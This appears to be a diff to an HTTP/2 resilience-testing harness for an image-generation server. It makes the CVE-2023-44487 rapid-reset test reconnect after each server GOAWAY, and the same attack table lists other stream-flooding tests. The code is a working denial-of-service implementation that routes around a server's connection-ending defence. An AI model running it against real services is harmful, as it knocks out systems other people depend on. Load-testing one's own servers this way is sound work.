@@ -6,6 +6,7 @@ it ends the attack, it never crashes the harness."""
 from __future__ import annotations
 
 import time
+from collections import Counter
 
 import h2.errors
 import h2.exceptions
@@ -100,20 +101,49 @@ def _window(client: Client, stream: int) -> int:
 
 def rapid_reset(siege: Siege, count: int = 20_000) -> None:
     """HEADERS, a body and RST_STREAM(CANCEL), stream after stream, as fast as the client
-    can (the CVE-2023-44487 pattern); each body a render never asked before. The client
-    then stays connected (reading) until its time is up."""
-    client = Client(siege.address)
+    can (the CVE-2023-44487 pattern); each body a render never asked before. A connection
+    the server ends (GOAWAY) is replaced by a new one until ``count`` streams are sent; the
+    last stays open (reading) until the time is up."""
     template = text_to_image(SDXL, prompt="a lighthouse, reset")
     # Made before the burst, so the burst is only h2's framing.
     bodies = [encode({**template, "seed": seed}) for seed in range(1, count + 1)]
-    head = client.headers(length=len(bodies[0]))
-    sent = 0
+    sent, connections = 0, 0
+    goaways: Counter[str] = Counter()
     started = time.monotonic()
+    client: Client | None = None
+    try:
+        while sent < count and siege.running():
+            try:
+                client = Client(siege.address)
+            except OSError as err:
+                siege.note("connection refused", type(err).__name__)
+                break
+            connections += 1
+            sent = _reset_burst(siege, client, bodies, sent)
+            if client.seen.goaway is not None:
+                goaways[client.seen.goaway] += 1
+            if sent < count:
+                client.close()
+        siege.note("client seconds sending", round(time.monotonic() - started, 2))
+        while client is not None and siege.running() and client.drain(0.2):
+            pass
+    finally:
+        if client is not None:
+            client.close()
+    siege.note("streams opened and reset", sent)
+    siege.note("connections", connections)
+    siege.note("GOAWAYs", dict(goaways))
+
+
+def _reset_burst(siege: Siege, client: Client, bodies: list[bytes], sent: int) -> int:
+    """Streams opened and reset on ``client`` from ``bodies[sent]`` on, until all are sent
+    or the server ends the connection; the new count sent."""
+    head = client.headers(length=len(bodies[0]))
     try:
         client.drain(0.5)
-        while sent < count and siege.running() and client.seen.goaway is None:
+        while sent < len(bodies) and siege.running() and client.seen.goaway is None:
             batch = 0
-            while batch < RESET_BATCH and sent < count:
+            while batch < RESET_BATCH and sent < len(bodies):
                 body = bodies[sent]
                 if client.conn.outbound_flow_control_window < len(body):
                     break  # out of connection window: read the server's credit first
@@ -125,15 +155,9 @@ def rapid_reset(siege: Siege, count: int = 20_000) -> None:
                 batch += 1
             if not (client.flush() and client.drain(0 if batch else 0.1)):
                 break
-        siege.note("client seconds sending", round(time.monotonic() - started, 2))
-        while siege.running() and client.drain(0.2):
-            pass
-    except h2.exceptions.ProtocolError as err:  # after a GOAWAY the client may send no more
-        siege.note("h2", type(err).__name__)
-    finally:
-        client.close()
-    siege.note("streams opened and reset", sent)
-    siege.note("server", client.seen.summary())
+    except h2.exceptions.ProtocolError:  # after a GOAWAY the client may send no more
+        pass
+    return sent
 
 
 def stalled_streams(siege: Siege, connections: int, *, zero_window: bool) -> None:
@@ -223,7 +247,7 @@ ATTACKS = (
     Attack("h2-huge-body", "HTTP/2", "one stream sending a 1.5 GB body while the "
            "connection's other streams hold the workers", huge_body, seconds=12),
     Attack("h2-rapid-reset", "HTTP/2", "20,000 streams opened and reset at once "
-           "(CVE-2023-44487), then the connection held", rapid_reset, seconds=6),
+           "(CVE-2023-44487), reconnecting after a GOAWAY", rapid_reset, seconds=6),
     Attack("h2-zero-window", "HTTP/2", "24 connections of streams whose answers a zero "
            "window holds back", lambda siege: stalled_streams(siege, 24, zero_window=True),
            seconds=8),
